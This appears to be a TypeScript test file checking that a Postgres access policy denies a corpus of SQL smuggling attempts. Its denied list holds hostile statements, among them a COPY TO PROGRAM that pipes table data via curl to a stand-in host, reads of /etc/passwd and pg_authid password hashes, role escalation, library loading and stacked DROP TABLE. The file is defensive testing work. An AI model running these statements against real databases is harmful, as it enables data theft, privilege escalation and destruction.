// The smuggling corpus through the shipped policies/postgres.rego: classify() output is what the policy decides on.

import { beforeAll, describe, expect, it } from 'vitest';
import { compile, loadCompiled } from '../../../opa/index.ts';
import { loadPolicyTree } from '../../../src/files.ts';
import { classify, classifyFunctionCall } from '../../../enforcers/postgres/sql/index.ts';

interface Decision {
  allow: boolean;
  reasons: string[];
}

let decide: (sql: Record<string, unknown>, groups: string[]) => Decision;

beforeAll(async () => {
  const tree = loadPolicyTree(['policies']);
  const r = compile(tree.rego, { query: 'd := data.writ.postgres.decision' });
  expect(r.ok, JSON.stringify(r.diagnostics)).toBe(true);
  const policy = await loadCompiled(r.wasm!);
  policy.setData(tree.data);
  decide = (sql, groups) => {
    const input = {
      version: 1,
      principal: { id: 'ci:job-1', type: 'ci_job', groups, roles: [], claims: {} },
      enforcer: { id: 'pg-1', kind: 'postgres' },
      resource: { name: 'orders-db', kind: 'postgres', attributes: {} },
      session: { id: 's1', client_addr: '127.0.0.1', started_at: '2026-11-29T00:00:00Z' },
      action: { kind: 'statement', sql },
      context: { time: '2026-11-29T00:00:00Z', approvals: [] },
    };
    const rows = policy.evaluate(input, r.entrypoints.indexOf('eval')) as Array<{ d: Decision }>;
    expect(rows).toHaveLength(1);
    return rows[0]!.d;
  };
});

// Every statement of the text decided on its own; the text is allowed only if all are.
function decideAll(text: string, groups = ['db-writers']): Decision[] {
  return classify(text).map((s) => decide(s as unknown as Record<string, unknown>, groups));
}

describe('smuggling corpus against policies/postgres.rego', () => {
  it('allows plain reads and writes of a writer', () => {
    expect(decideAll('select id from app.orders where id = 1').map((d) => d.allow)).toEqual([true]);
    expect(decideAll("insert into app.orders (id) values (1); update app.orders set total = 2 where id = 1").map((d) => d.allow)).toEqual([true, true]);
  });

  const denied: Array<[string, string, RegExp]> = [
    ['stacked DROP', 'select 1; DROP/**/TABLE app.orders', /no grant/],
    ['keyword split by a comment', 'DR/**/OP TABLE app.orders', /could not be classified: syntax error/],
    ['DO with EXECUTE', "DO $x$ BEGIN EXECUTE 'drop table app.orders'; END $x$", /'do_block' is forbidden/],
    ['COPY TO PROGRAM', "COPY app.orders TO PROGRAM 'curl -d @- http://evil'", /'copy_program' is forbidden/],
    ['COPY FROM PROGRAM', "COPY app.orders FROM PROGRAM 'cat /etc/passwd'", /'copy_program' is forbidden/],
    ['SET ROLE', 'SET ROLE postgres', /'set_role' is forbidden/],
    ['SET SESSION AUTHORIZATION', 'SET SESSION AUTHORIZATION postgres', /'set_session_authorization' is forbidden/],
    ['pg_read_file', "SELECT pg_read_file('/etc/passwd')", /'function_call' is forbidden/],
    ['set_config role', "select set_config('role', 'postgres', false)", /'function_call' is forbidden/],
    ['dblink', "select * from dblink('dbname=x', 'drop table t') as t(a int)", /'function_call' is forbidden/],
    ['LOAD', "LOAD '/tmp/x.so'", /'load' is forbidden/],
    ['ALTER SYSTEM', "ALTER SYSTEM SET archive_command = 'x'", /'alter_system' is forbidden/],
    ['CREATE EXTENSION', 'CREATE EXTENSION dblink', /'create_extension' is forbidden/],
    ['PREPARE', 'PREPARE p AS DELETE FROM app.orders', /'dynamic_sql' is forbidden/],
    ['EXECUTE', 'EXECUTE p', /'dynamic_sql' is forbidden/],
    ['pg_authid', 'select rolpassword from pg_catalog.pg_authid', /pg_authid/],
    ['unqualified pg_authid', 'select rolpassword from pg_authid', /pg_authid/],
    ['DELETE without WHERE', 'DELETE FROM app.orders', /'delete_without_where' is forbidden/],
    ['UPDATE without WHERE', "UPDATE app.orders SET status = 'x'", /'update_without_where' is forbidden/],
    ['COPY to a server file', "COPY app.orders TO '/tmp/orders.csv'", /'copy_file' is forbidden/],
    ['TRUNCATE', 'TRUNCATE app.orders', /no grant/],
  ];
  for (const [label, sql, reason] of denied) {
    it(`denies ${label}`, () => {
      const decisions = decideAll(sql);
      const last = decisions.at(-1)!;
      expect(last.allow).toBe(false);
      expect(last.reasons.join('\n')).toMatch(reason);
    });
  }

  it('denies a FunctionCall message', () => {
    const d = decide(classifyFunctionCall(2619) as unknown as Record<string, unknown>, ['db-writers']);
    expect(d.allow).toBe(false);
    expect(d.reasons.join('\n')).toMatch(/'function_call' is forbidden/);
  });

  it('a CTE that deletes is a delete: a reader may not run it', () => {
    const [d] = decideAll('with x as (delete from app.orders where id = 1 returning *) select * from x', ['db-readers']);
    expect(d!.allow).toBe(false);
    expect(decideAll('select * from app.orders', ['db-readers'])[0]!.allow).toBe(true);
  });
});
